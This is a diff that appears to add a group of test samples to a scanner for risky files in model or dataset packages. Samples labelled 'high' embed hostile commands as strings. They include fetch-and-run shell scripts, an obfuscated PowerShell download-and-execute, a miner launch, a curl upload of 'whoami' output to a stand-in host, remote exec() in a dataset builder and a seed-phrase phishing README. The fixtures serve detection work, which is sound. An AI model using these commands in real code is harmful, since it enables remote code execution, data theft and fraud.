@@ -12,6 +12,7 @@ def samples() -> Iterator[Sample]:
     """One group after the other."""
     yield from _metadata()
     yield from _settings()
+    yield from _commands()
 
 
 def _tensors(metadata: dict[str, str]) -> bytes:
@@ -54,3 +55,34 @@ def _settings() -> Iterator[Sample]:
     yield high("settings", "installer by its name", "Runtime.msi", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600))
     plain = "# Notes\n\nYou do **not** have to turn off Windows Defender.\n"
     yield benign("settings", "guard left on", "README.md", plain)
+
+
+def _commands() -> Iterator[Sample]:
+    fetched = "#!/bin/bash\nwget -q https://b.invalid/tools.zip -O /tmp/t.zip\n"
+    started = fetched + "unzip -oq /tmp/t.zip -d /tmp/t\nchmod +x /tmp/t/run && /tmp/t/run &\n"
+    yield high("commands", "unpacked and started unseen", "setup.sh", started)
+    yield high("commands", "miner", "run.sh", "nohup ./xm -o pool.invalid:3333 -u 44abcdef &\n")
+    only = fetched + "unzip -oq /tmp/t.zip -d /tmp/t\ncp -r /tmp/t/data ./data\nrm -rf /tmp/t\n"
+    yield benign("commands", "unpacked", "setup.sh", only)
+    joined = "$w = New-Object ('Ne'+'t.We'+'bClient')\n$s = $w.('Down'+'loadString').Invoke('http://b.invalid/a')\n"
+    yield high("commands", "joined words", "setup.ps1", joined + "&('I'+'EX') $s\n")
+    yield high(
+        "commands",
+        "what the machine is",
+        "d.py",
+        "import os\nos.system('whoami > w; curl -F f=@w https://b.invalid')\n",
+    )
+    pip = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-i', '{}', 'kit'])\n"
+    yield high("commands", "packages unprotected", "kit.py", pip.format("http://pypi.invalid/simple"))
+    yield benign("commands", "packages of PyTorch", "kit.py", pip.format("https://download.pytorch.org/whl/cpu"))
+    builder = "import datasets\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n"
+    yield high(
+        "commands", "builder", "d.py", builder + "        exec(open(dl.download('https://b.invalid/p.py')).read())\n"
+    )
+    reads = "        rows = open(dl.download('https://b.example/p.csv')).read()\n        return rows.split()\n"
+    yield benign("commands", "builder", "e.py", builder + reads)
+    wallet = "# Wallet model\n\nEnter your seed phrase at https://sync.invalid to activate it.\n"
+    yield high("commands", "words of a wallet", "README.md", wallet)
+    yield benign(
+        "commands", "words of a wallet", "CARD.md", "# Filter\n\nIt finds a seed phrase or private key in text.\n"
+    )
